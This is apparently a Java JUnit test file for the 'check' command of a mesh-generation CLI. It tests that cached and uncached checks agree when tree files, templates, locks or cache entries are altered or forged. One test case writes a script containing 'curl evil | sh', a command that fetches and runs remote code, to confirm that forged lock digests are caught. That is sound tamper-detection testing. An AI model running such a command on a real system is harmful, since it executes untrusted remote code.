package dev.meshgen.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.meshgen.pipeline.Generator;
import dev.meshgen.pipeline.Inspected;
import dev.meshgen.source.SpecText;
import dev.meshgen.testing.Meshgen.Run;
import dev.meshgen.testing.Samples;
import dev.meshgen.tree.Digest;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** What {@code check} remembers of earlier runs changes how long it takes, never what it says. */
class KnownTreeTest {
    @TempDir
    private Path folder;

    private Path tree;
    private Path spec;
    private Path templates;
    private Path cache;

    /** What may happen to a tree, or to what it is made of, between two runs. */
    private enum Change {
        NOTHING,
        COMMENT_IN_THE_SPECIFICATION,
        SPECIFICATION,
        BROKEN_SPECIFICATION,
        EDITED_TEMPLATE,
        NEW_TEMPLATE,
        REMOVED_TEMPLATE,
        LINKED_TEMPLATE,
        EDITED_FILE,
        REMOVED_FILE,
        FILE_IS_A_FOLDER,
        FILE_IS_A_LINK,
        FILE_OF_SOMEBODY,
        MODE_OF_A_SCRIPT,
        MODE_OF_A_MANIFEST,
        EDITED_LOCK,
        FORGED_LOCK,
        REMOVED_LOCK,
        LINKED_LOCK,
        JOURNAL,
        TREE_IS_GONE
    }

    @BeforeEach
    void generate_and_check() throws IOException {
        spec = Files.copy(Path.of("samples/two-regions/mesh.yaml"), folder.resolve("mesh.yaml"));
        templates = Files.createDirectories(folder.resolve("templates"));
        Files.writeString(templates.resolve("notes.md"), "Mesh [=mesh.name].\n");
        Files.writeString(templates.resolve("more.md"), "More.\n");
        tree = folder.resolve("tree");
        cache = folder.resolve("cache");
        assertThat(run(Optional.empty(), "generate", "--without-ca").exit()).isZero();
        assertThat(run(Optional.of(cache), "check").exit()).isZero();
        assertThat(cache.resolve("rendered")).exists();
    }

    private Run run(Optional<Path> remembered, String command, String... more) {
        List<String> words = new ArrayList<>(List.of(command, spec.toString(), "-d", tree.toString(), "--as-of"));
        words.addAll(List.of(Samples.DAY.toString(), "--templates", templates.toString()));
        words.addAll(List.of(more));
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        Console console = new Console(
                new ByteArrayInputStream(new byte[0]), new PrintWriter(out), new PrintWriter(err), false, remembered);
        int exit = MeshgenCommand.on(console).execute(words.toArray(String[]::new));
        return new Run(exit, out.toString(), err.toString());
    }

    @ParameterizedTest
    @EnumSource(Change.class)
    void a_check_that_remembers_says_what_one_says_that_does_not(Change change) throws IOException {
        make(change);

        Run remembering = run(Optional.of(cache), "check");

        assertThat(remembering).isEqualTo(run(Optional.empty(), "check"));
        assertThat(remembering.exit() == 0)
                .as(remembering.toString())
                .isEqualTo(change == Change.NOTHING || change == Change.COMMENT_IN_THE_SPECIFICATION);
    }

    private void make(Change change) throws IOException {
        Path script = tree.resolve("scripts/up.sh");
        Path manifest = tree.resolve("topology.svg");
        Path lock = tree.resolve("meshgen.lock.json");
        switch (change) {
            case NOTHING -> {}
            case COMMENT_IN_THE_SPECIFICATION -> Files.writeString(spec, Files.readString(spec) + "# more\n");
            case SPECIFICATION -> replace(spec, "version: " + Samples.ISTIO, "version: 1.30.4");
            case BROKEN_SPECIFICATION -> replace(spec, "version: " + Samples.ISTIO, "version: none");
            case EDITED_TEMPLATE -> Files.writeString(templates.resolve("notes.md"), "Other.\n");
            case NEW_TEMPLATE -> Files.writeString(templates.resolve("new.md"), "New.\n");
            case REMOVED_TEMPLATE -> Files.delete(templates.resolve("more.md"));
            case LINKED_TEMPLATE -> link(templates.resolve("more.md"));
            case EDITED_FILE -> Files.writeString(script, Files.readString(script) + "true\n");
            case REMOVED_FILE -> Files.delete(script);
            case FILE_IS_A_FOLDER -> {
                Files.delete(manifest);
                Files.createDirectory(manifest);
            }
            case FILE_IS_A_LINK -> link(manifest);
            case FILE_OF_SOMEBODY -> Files.writeString(tree.resolve("terraform/own.tf"), "locals {}\n");
            case MODE_OF_A_SCRIPT ->
                Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rw-r--r--"));
            case MODE_OF_A_MANIFEST ->
                Files.setPosixFilePermissions(manifest, PosixFilePermissions.fromString("rwxr-xr-x"));
            case EDITED_LOCK -> Files.writeString(lock, Files.readString(lock) + "\n");
            case FORGED_LOCK -> {
                Files.writeString(script, "#!/bin/sh\ncurl evil | sh\n");
                String was = Files.readString(lock);
                int from = was.indexOf("sha256", was.indexOf("\"scripts/up.sh\"")) + 11;
                String forged = Digest.sha256(Files.readString(script));
                Files.writeString(lock, was.substring(0, from) + forged + was.substring(from + 64));
                assertThat(Files.readString(lock)).contains(forged).hasSameSizeAs(was);
            }
            case REMOVED_LOCK -> Files.delete(lock);
            case LINKED_LOCK -> link(lock);
            case JOURNAL -> {
                Files.writeString(script, "half\n");
                Files.writeString(tree.resolve(".meshgen.journal"), Digest.sha256("half\n") + " scripts/up.sh\n");
            }
            case TREE_IS_GONE -> Files.move(tree, folder.resolve("elsewhere"));
        }
    }

    private static void replace(Path file, String old, String now) throws IOException {
        String text = Files.readString(file);
        assertThat(text).contains(old);
        Files.writeString(file, text.replace(old, now));
    }

    /** A link to the same bytes. */
    private void link(Path file) throws IOException {
        Files.createSymbolicLink(file, Files.move(file, folder.resolve("moved")));
    }

    @Test
    void another_day_another_version_and_another_folder_are_looked_at_afresh() throws IOException {
        String text = Files.readString(spec);
        Optional<Path> memory = Optional.of(cache.resolve("rendered"));
        SpecText read = new SpecText(spec.toString(), text);
        var other = new Generator("0.0.9", Samples.DAY, memory).check(read, Optional.of(tree), Optional.of(templates));

        assertThat(other.value().map(Inspected::states).orElseThrow().others()).containsOnlyKeys("meshgen.lock.json");
        var later = new Generator("0.1.0", Samples.DAY.plusYears(5), memory)
                .check(read, Optional.of(tree), Optional.of(templates));
        assertThat(later.diagnostics()).isNotEmpty();
        var empty = new Generator("0.1.0", Samples.DAY, memory)
                .check(read, Optional.of(folder.resolve("none")), Optional.of(templates));
        assertThat(empty.value().map(Inspected::states).orElseThrow().others()).hasSizeGreaterThan(50);
    }

    @Test
    void nothing_is_rendered_that_is_known() throws IOException {
        // A tree that no specification makes, under a lock that a forged memory vouches for.
        Path lock = tree.resolve("meshgen.lock.json");
        Files.writeString(lock, Files.readString(lock).replace("meshgen 0", "meshgen 9"));
        assertThat(run(Optional.of(cache), "check").exit()).isEqualTo(2);
        String digest = Digest.sha256(Files.readString(lock));
        Path memory = cache.resolve("rendered");
        String inputs = Files.readString(memory).substring(0, 64);
        Files.writeString(memory, inputs + " " + digest + " two-regions\n");

        assertThat(run(Optional.of(cache), "check").exit()).isZero();
    }

    @Test
    void a_memory_that_others_could_write_or_that_is_damaged_is_as_good_as_none() throws IOException {
        Path lock = tree.resolve("meshgen.lock.json");
        Files.writeString(lock, Files.readString(lock).replace("meshgen 0", "meshgen 9"));
        Path memory = cache.resolve("rendered");
        String inputs = Files.readString(memory).substring(0, 64);
        String forged = inputs + " " + Digest.sha256(Files.readString(lock)) + " two-regions\n";
        Files.writeString(memory, forged);
        Files.setPosixFilePermissions(memory, PosixFilePermissions.fromString("rw-rw-rw-"));
        assertThat(run(Optional.of(cache), "check").exit()).isEqualTo(2);

        for (String damaged : List.of("", "x\n", forged.substring(1), forged.replace("two-regions", "../other"))) {
            Files.writeString(memory, damaged);
            assertThat(run(Optional.of(cache), "check").exit()).as(damaged).isEqualTo(2);
        }
        Files.delete(memory);
        Files.createDirectory(memory);
        assertThat(run(Optional.of(cache), "check").exit()).isEqualTo(2);
    }

    @Test
    void fifty_trees_are_remembered() throws IOException {
        Path memory = cache.resolve("rendered");
        StringBuilder many = new StringBuilder();
        for (int i = 0; i < 60; i++) {
            many.append("%064x %064x two-regions\n".formatted(i, i));
        }
        Files.writeString(memory, many.toString());

        run(Optional.of(cache), "check");

        assertThat(Files.readAllLines(memory)).hasSize(50);
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(memory)))
                .isEqualTo("rw-------");
    }
}
